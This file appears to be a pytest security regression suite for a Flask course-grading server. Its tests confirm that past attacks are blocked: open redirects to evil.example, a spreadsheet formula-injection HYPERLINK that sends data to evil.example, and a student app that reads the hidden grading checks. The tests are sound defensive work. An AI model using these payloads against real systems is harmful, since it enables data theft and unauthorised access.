"""Attacks over HTTP that once worked: each test is the attack, and what must stop it."""

from __future__ import annotations

import csv
import io
import multiprocessing
import os
import re
import stat
from pathlib import Path

import pytest
from classroom_harness import INSTRUCTOR, Classroom, wait_graded
from conftest import bearer
from test_classroom_bad_input import REG, Nothing, csrf_of, web_login, zip_of


@pytest.fixture(scope="module")
def room(tmp_path_factory):
    # Its own server, so these sign-ins do not use up the shared server's login limit.
    room = Classroom(tmp_path_factory.mktemp("security"),
                     {"CLASSROOM_LOGIN_LIMIT": "1000/minute"}).setup().start()
    yield room
    room.kill()


def test_reissuing_a_token_ends_the_web_sessions_opened_with_the_old_one(room, http):
    # A leaked token is re-issued: whoever signed in with it must be signed out, not kept in.
    assert web_login(http, room, token=room.tokens["alan@example.edu"]).ok
    assert http.get(f"{room.url}/me", timeout=10, allow_redirects=False).status_code == 200
    new = room.cli("reissue", "alan@example.edu").stdout.strip()
    r = http.get(f"{room.url}/me", timeout=10, allow_redirects=False)
    assert r.status_code == 302 and "/login" in r.headers["Location"]
    # The new token signs in as usual.
    assert web_login(http, room, token=new).ok
    assert http.get(f"{room.url}/me", timeout=10, allow_redirects=False).status_code == 200
    room.tokens["alan@example.edu"] = new


def test_an_expired_token_ends_its_web_session(room, http):
    assert web_login(http, room, token=room.tokens["grace@example.edu"]).ok
    room.sql("UPDATE users SET token_expires_at = '2000-01-01 00:00:00' "
             "WHERE email = 'grace@example.edu'")
    try:
        r = http.get(f"{room.url}/me", timeout=10, allow_redirects=False)
        assert r.status_code == 302 and "/login" in r.headers["Location"]
    finally:
        room.tokens["grace@example.edu"] = room.cli("reissue", "grace@example.edu") \
            .stdout.strip()


def test_a_password_reset_ends_the_instructors_other_sessions(room, http):
    assert web_login(http, room, email=INSTRUCTOR[0], password=INSTRUCTOR[1]).ok
    assert http.get(f"{room.url}/gradebook", timeout=10, allow_redirects=False) \
        .status_code == 200
    room.cli("init", "--email", INSTRUCTOR[0], "--password-stdin", input=INSTRUCTOR[1] + "\n")
    r = http.get(f"{room.url}/gradebook", timeout=10, allow_redirects=False)
    assert r.status_code == 302 and "/login" in r.headers["Location"]
    assert web_login(http, room, email=INSTRUCTOR[0], password=INSTRUCTOR[1]).ok


@pytest.mark.parametrize("target", ["/\t/evil.example", "/\n/evil.example", "/\\evil.example",
                                    "/\\/evil.example", "//evil.example", "https://evil.example"])
def test_sign_in_never_redirects_off_the_site(room, http, target):
    csrf = csrf_of(http, f"{room.url}/login")
    r = http.post(f"{room.url}/login", params={"next": target}, timeout=10,
                  allow_redirects=False, data={"csrf_token": csrf, "email": INSTRUCTOR[0],
                                               "password": INSTRUCTOR[1]})
    assert r.status_code == 302
    assert r.headers["Location"] == "/gradebook", r.headers["Location"]


def test_sign_in_still_returns_to_a_local_page(room, http):
    csrf = csrf_of(http, f"{room.url}/login")
    r = http.post(f"{room.url}/login", params={"next": "/queue/"}, timeout=10,
                  allow_redirects=False, data={"csrf_token": csrf, "email": INSTRUCTOR[0],
                                               "password": INSTRUCTOR[1]})
    assert r.headers["Location"] == "/queue/"


def test_gradebook_csv_does_not_hand_spreadsheets_formulas_from_the_roster(room, http):
    web_login(http, room, email=INSTRUCTOR[0], password=INSTRUCTOR[1])
    roster = ('"=HYPERLINK(""http://evil.example/?""&A1,""Open"")",eq@example.edu,A\n'
              "+1+cmd,plus@example.edu,@SUM(1+1)\n"
              "Dash Person,-2+3@example.edu,B\n")
    csrf = csrf_of(http, f"{room.url}/roster/")
    r = http.post(f"{room.url}/roster/import", data={"csrf_token": csrf}, timeout=10,
                  files={"csv": ("r.csv", roster.encode(), "text/csv")})
    assert r.status_code == 200 and "3 new" in r.text
    export = http.get(f"{room.url}/gradebook.csv", timeout=10)
    rows = {row[1]: row for row in csv.reader(io.StringIO(export.text))}
    assert rows["eq@example.edu"][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
    assert rows["plus@example.edu"][0] == "'+1+cmd"
    assert rows["plus@example.edu"][2] == "'@SUM(1+1)"
    assert rows["'-2+3@example.edu"][0] == "Dash Person"
    # Ordinary names are left as they are.
    assert rows["ada@example.edu"][:3] == ["Ada Lovelace", "ada@example.edu", "A"]


@pytest.mark.parametrize("claimed", ["9" * 30, "-9" + "9" * 30])
def test_an_absurd_client_score_is_dropped_not_a_500(room, http, claimed):
    data = zip_of([("linkly/__init__.py", f"# client score {claimed}\n".encode(), REG)])
    r = http.post(f"{room.url}/api/submissions", timeout=30,
                  headers=bearer(room.tokens["mary@example.edu"]),
                  data={"chapter": "ch1", "client_score": claimed},
                  files={"archive": ("ch1.zip", data, "application/zip")})
    assert r.status_code == 201, r.text
    assert r.json()["client_score"] is None


def test_a_path_that_is_both_file_and_folder_is_refused_at_upload(room, http):
    # It could never be unpacked: accepted, it burnt every grading attempt and then failed
    # with the server's temporary path in the student's error.
    data = zip_of([("linkly", b"x", REG), ("linkly/__init__.py", b"# both\n", REG)])
    with Nothing(room):
        r = http.post(f"{room.url}/api/submissions", timeout=30,
                      headers=bearer(room.tokens["mary@example.edu"]), data={"chapter": "ch1"},
                      files={"archive": ("ch1.zip", data, "application/zip")})
    assert r.status_code == 400
    assert "'linkly' as both a file and a folder" in r.json()["error"]


def test_pages_showing_new_tokens_are_never_cached(room, http):
    web_login(http, room, email=INSTRUCTOR[0], password=INSTRUCTOR[1])
    csrf = csrf_of(http, f"{room.url}/roster/")
    r = http.post(f"{room.url}/roster/import", data={"csrf_token": csrf}, timeout=10,
                  files={"csv": ("r.csv", b"Nora New,nora@example.edu\n", "text/csv")})
    assert "flk_" in r.text and r.headers["Cache-Control"] == "no-store"
    uid = room.sql("SELECT id FROM users WHERE email = 'nora@example.edu'")[0][0]
    r = http.post(f"{room.url}/roster/{uid}/token", data={"csrf_token": csrf}, timeout=10)
    assert "flk_" in r.text and r.headers["Cache-Control"] == "no-store"


PEEK_APP = '''
from flask import Flask


def create_app(test_config=None):
    app = Flask(__name__)

    @app.route("/")
    def index():
        try:
            with open({path!r}) as f:
                return "PEEK " + f.read(), 500
        except OSError as exc:
            return "PEEK refused: " + type(exc).__name__, 500

    return app
'''


def test_without_bubblewrap_the_server_refuses_to_grade_instead_of_exposing_itself(tmp_path,
                                                                                     http):
    # A host where bubblewrap cannot run (FLASKLINGS_BWRAP empty stands in for one): a
    # student's app ran with the server's files in reach, here the hidden checks.
    base = tmp_path / "srv"
    base.mkdir()
    tmp_path.chmod(0o755)
    base.chmod(0o755)  # like /srv: other users may pass through
    room = Classroom(base / "classroom", {"FLASKLINGS_BWRAP": ""}).setup()
    room.instance.chmod(0o755)
    secret = room.instance / "hidden_checks" / "ch1" / "health_json.py"
    try:
        room.start()
        app = PEEK_APP.replace("{path!r}", repr(str(secret)))
        token = room.tokens["ada@example.edu"]
        r = http.post(f"{room.url}/api/submissions", timeout=30, headers=bearer(token),
                      data={"chapter": "ch1"},
                      files={"archive": ("ch1.zip", zip_of([("linkly/__init__.py",
                                                             app.encode(), REG)]),
                                         "application/zip")})
        assert r.status_code == 201, r.text
        body = wait_graded(http, room.url, r.json()["id"], token)
        result = room.sql("SELECT result_json FROM submissions WHERE id = :i",
                          i=r.json()["id"])[0][0] or ""
        assert "expect_header" not in result, "the student's app read the hidden checks"
        assert body["state"] == "done" and "sandbox" in " ".join(body["failed_checks"]).lower()
    finally:
        room.kill()


def _start_app_key(folder: str, barrier, out) -> None:
    from classroom import _secret_key

    barrier.wait()
    try:
        out.put(_secret_key(Path(folder)))
    except Exception as exc:  # noqa: BLE001 — the failure is what the test reports
        out.put(f"{type(exc).__name__}: {exc}")


def test_workers_starting_together_share_one_whole_secret_key(tmp_path):
    # gunicorn -w 4 on a fresh instance folder: every worker makes the key at once.
    ctx = multiprocessing.get_context("fork")
    for n in range(10):
        folder = tmp_path / f"instance{n}"
        folder.mkdir()
        barrier, out = ctx.Barrier(6), ctx.Queue()
        procs = [ctx.Process(target=_start_app_key, args=(str(folder), barrier, out))
                 for _ in range(6)]
        for p in procs:
            p.start()
        keys = [out.get(timeout=30) for _ in procs]
        for p in procs:
            p.join(timeout=30)
        assert len(set(keys)) == 1 and re.fullmatch(r"[0-9a-f]{64}", keys[0]), keys
        assert (folder / "secret_key").stat().st_mode & 0o077 == 0
        assert [p.name for p in folder.iterdir()] == ["secret_key"]


def test_storing_files_already_there_still_makes_their_folder_entry_durable(tmp_path,
                                                                            monkeypatch):
    # Another upload of the same files may have renamed the archive into place and not yet
    # synced the folder: acknowledging ours before the entry is on disk could lose it.
    from classroom import archives

    files = {"linkly/__init__.py": b"# same files\n"}
    data = zip_of([(name, body, REG) for name, body in files.items()])
    content = archives.digest(files)
    archives.store(tmp_path, content, data)
    synced = []
    real = os.fsync
    monkeypatch.setattr(os, "fsync", lambda fd: (synced.append(stat.S_ISDIR(os.fstat(fd)
                                                                            .st_mode)),
                                                 real(fd))[1])
    assert archives.store(tmp_path, content, data) == f"{content}.zip"
    assert True in synced, "the folder was not synced before the upload was acknowledged"


def test_an_unknown_instructor_email_costs_a_password_hash_too(tmp_path, monkeypatch):
    # Answering an unknown email without hashing anything was measurably faster: the timing
    # told which emails are instructor accounts. Counted, not timed.
    import classroom.auth
    from classroom import create_app

    monkeypatch.setenv("CLASSROOM_INSTANCE", str(tmp_path))
    app = create_app({"EMBEDDED_POOL": False, "WTF_CSRF_ENABLED": False})
    calls = []
    real = classroom.auth.check_password_hash
    monkeypatch.setattr(classroom.auth, "check_password_hash",
                        lambda h, p: (calls.append(h), real(h, p))[1])
    r = app.test_client().post("/login", data={"email": "nobody@example.edu",
                                               "password": "a guess at it"})
    assert r.status_code == 401 and b"do not match" in r.data
    assert len(calls) == 1
